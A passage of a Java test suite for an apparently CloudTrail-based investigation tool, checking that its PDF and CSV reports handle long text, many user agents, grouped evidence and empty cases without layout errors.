        p.put("bucketName", "acme-customer-data");
        p.put("key", "exports/2026/09/customers-" + n + ".csv.gz");
        r.put("readOnly", true);
      }));
    }
    Path c = importCase("grouped", records);
    Path pdf = tmp.resolve("grouped.pdf");
    Path csv = tmp.resolve("grouped.csv");
    ok("report", "--case", c.toString(), "--out", pdf.toString());
    ok("report", "--case", c.toString(), "--out", tmp.resolve("grouped-findings.csv").toString(), "--evidence", csv.toString());
    String text = pdfText(pdf);
    assertThat(squash(text)).contains(squash("every row is in the evidence CSV: trailbench report --evidence FILE.csv"))
        .doesNotContain("customers-7.csv.gz");
    assertThat(Files.readString(csv)).as("report --evidence grouped.csv").contains("customers-7.csv.gz");
  }

  /** The PDF lists at most 20 distinct user agents per finding and says nothing of the rest. */
  @Test
  void pdfListsEveryUserAgentOrSaysHowManyItLeftOut() throws Exception {
    List<ObjectNode> records = new ArrayList<>();
    for (int i = 1; i <= 25; i++) {
      int n = i;
      records.add(record(i, "root", "iam.amazonaws.com", "ListUsers", r -> {
        ObjectNode id = (ObjectNode) r.get("userIdentity");
        id.put("type", "Root");
        id.put("arn", "arn:aws:iam::" + ACCOUNT + ":root");
        id.put("principalId", ACCOUNT);
        id.remove("userName");
        r.put("userAgent", "agent-number-" + n);
      }));
    }
    Path c = importCase("agents", records);
    Path pdf = tmp.resolve("agents.pdf");
    ok("report", "--case", c.toString(), "--out", pdf.toString());
    String text = pdfText(pdf);
    List<String> missing = new ArrayList<>();
    for (int i = 1; i <= 25; i++) {
      if (!text.contains("agent-number-" + i + "\n") && !text.contains("agent-number-" + i + "\r")) {
        missing.add("agent-number-" + i);
      }
    }
    boolean saysMore = text.lines().anyMatch(l -> l.contains("User agent") || l.matches(".*\\b5 more.*"))
        && text.matches("(?s).*(\\b5 more|first 20|20 of 25).*");
    assertThat(missing.isEmpty() || saysMore).as("user agents missing from the PDF without a mark: " + missing).isTrue();
  }

  // ------------------------------------------------------------------ 4. layout

  @Test
  void pdfWithVeryLongFindingTextStaysInsideThePage() throws Exception {
    String longWord = "x".repeat(3000);
    String arn = "arn:aws:iam::" + ACCOUNT + ":role/" + "p".repeat(2000);
    List<Evidence> evidence = new ArrayList<>();
    for (int i = 0; i < 5; i++) {
      evidence.add(new Evidence.Event("e" + i + "-" + "9".repeat(400), ACCOUNT, Instant.parse("2026-10-03T10:00:00Z"),
          "iam.amazonaws.com", "CreateAccessKey" + longWord.substring(0, 300), "us-east-1", arn, "AKIA" + "Q".repeat(300),
          "2001:0db8:85a3:0000:0000:8a2e:0370:7334", "ua " + longWord, "AccessDenied" + "Z".repeat(200),
          "bucket/" + longWord));
    }
    evidence.add(new Evidence.Principal(arn));
    evidence.add(new Evidence.AccessKey("AKIA" + "Q".repeat(300)));
    evidence.add(new Evidence.Session("s", longWord));
    Finding f = new Finding("long-1", "manual", "Title " + longWord, Severity.CRITICAL, FindingStatus.OPEN,
        "Summary " + longWord + " " + "word ".repeat(2000), "Why " + longWord, "Notes\n" + longWord, evidence, 5,
        Instant.parse("2026-10-03T10:00:00Z"), Instant.parse("2026-10-03T10:00:00Z"), Instant.parse("2026-10-04T00:00:00Z"),
        List.of("https://example.com/" + longWord));
    CaseSummary s = new CaseSummary("Case " + longWord, List.of(arn), Instant.parse("2026-10-03T10:00:00Z"),
        Instant.parse("2026-10-03T10:00:00Z"), 5, Map.of("CloudTrail " + longWord, 5L), Instant.parse("2026-10-05T00:00:00Z"));
    byte[] pdf = new PdfReport(s, List.of(f)).toBytes();
    Files.createDirectories(PdfReportTest.OUT);
    Files.write(PdfReportTest.OUT.resolve("audit-long-text.pdf"), pdf);
    List<Glyph> glyphs = glyphs(pdf);
    assertThat(glyphs).hasSizeGreaterThan(10_000);
    assertThat(outsidePage(glyphs)).as("glyphs outside the page").isEmpty();
    assertThat(overlapping(glyphs)).as("glyphs drawn over other glyphs").isEmpty();
  }

  @Test
  void pdfAndCsvOfACaseWithNoEvents() throws Exception {
    Path c = importCase("empty", List.of());
    Path pdf = tmp.resolve("empty.pdf");
    Path csv = tmp.resolve("empty.csv");
    ok("report", "--case", c.toString(), "--out", pdf.toString());
    ok("report", "--case", c.toString(), "--out", csv.toString());
    byte[] bytes = Files.readAllBytes(pdf);
    String text = pdfText(pdf);
    assertThat(text).contains("The detection run raised no findings.").containsPattern("Events\\s+0\\b")
        .contains("Events from —");
    List<Glyph> glyphs = glyphs(bytes);
    assertThat(outsidePage(glyphs)).isEmpty();
    assertThat(overlapping(glyphs)).isEmpty();
    assertThat(Files.readString(csv)).isEqualTo(String.join(",", CsvExport.FINDING_COLUMNS) + "\r\n");
    assertThat(ok("events", "--case", c.toString(), "--format", "csv").out())
        .isEqualTo(String.join(",", EventExport.CSV_COLUMNS) + "\r\n");
  }

  @Test
  void pdfOfTheHostileCaseKeepsItsLayout() throws Exception {
    Path c = hostileCase();
    Path pdf = tmp.resolve("hostile.pdf");
    ok("report", "--case", c.toString(), "--out", pdf.toString());
    List<Glyph> glyphs = glyphs(Files.readAllBytes(pdf));
    assertThat(outsidePage(glyphs)).isEmpty();
    assertThat(overlapping(glyphs)).isEmpty();
  }
}
